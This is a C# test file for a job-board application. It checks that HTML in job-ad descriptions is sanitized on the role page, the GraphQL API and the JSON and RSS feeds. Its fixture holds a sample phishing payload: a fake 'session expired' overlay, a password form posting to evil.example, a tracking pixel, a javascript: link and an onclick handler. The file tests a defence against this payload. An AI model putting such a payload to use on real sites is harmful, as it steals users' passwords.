using AngleSharp;
using RolesBoard.Tests.Infrastructure;

namespace RolesBoard.Tests.Roles;

[Collection(nameof(BoardCollection))]
public sealed class JobAdHtmlTests(RolesBoardApp app) : IAsyncLifetime
{
    private const string Phishing = """
        <h2>About the role</h2><p style="position:fixed;z-index:9999;top:0">Your <em>session</em> expired.</p>
        <form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example/x">Log in</button></form>
        <img src="https://evil.example/pixel.gif"><ul><li><a href="https://outlandish.com/apply" target="_blank" rel="opener">Apply</a></li></ul>
        <a href="javascript:alert(1)">x</a><div class="overlay" id="login" onclick="alert(1)">text</div>
        """;

    private Board.CoopKey _coop = null!;

    public async Task InitializeAsync()
    {
        await app.ResetAsync();
        _coop = await app.RegisterCoopAsync("Outlandish", "https://outlandish.com");
    }

    public Task DisposeAsync() => Task.CompletedTask;

    [Fact]
    public async Task DescriptionsKeepOnlyWhatAJobAdvertNeeds()
    {
        var id = await app.PostRoleIdAsync(_coop.ApiKey, new { title = "Developer", description = Phishing });
        var body = await app.GraphQLAsync("query($id: ID!) { role(id: $id) { description } }", new { id });
        var html = body["data"]!["role"]!["description"]!.GetValue<string>();
        var fragment = await BrowsingContext.New(Configuration.Default).OpenAsync(r => r.Content(html));

        Assert.Empty(fragment.QuerySelectorAll("form, input, button, img, style, [style], [class], [id], [onclick], [formaction]"));
        Assert.NotNull(fragment.QuerySelector("h2"));
        Assert.NotNull(fragment.QuerySelector("ul li"));
        Assert.Contains("session", fragment.QuerySelector("em")!.TextContent);
        var links = fragment.QuerySelectorAll("a").ToList();
        Assert.All(links, a => Assert.Equal("nofollow noopener", a.GetAttribute("rel")));
        Assert.All(links, a => Assert.DoesNotContain("javascript:", a.GetAttribute("href") ?? ""));
        Assert.Contains(links, a => a.GetAttribute("href") == "https://outlandish.com/apply");
    }

    [Fact]
    public async Task TheRolePageAndTheFeedsCarryTheSanitizedDescription()
    {
        var id = await app.PostRoleIdAsync(_coop.ApiKey, new { title = "Developer", description = Phishing });
        using var client = app.CreateClient();
        foreach (var url in new[] { $"/roles/{id}", "/feed.json", "/feed.rss" })
        {
            var text = await client.GetStringAsync(url);
            Assert.DoesNotContain("evil.example", text);
            Assert.DoesNotContain("position:fixed", text);
        }
    }
}
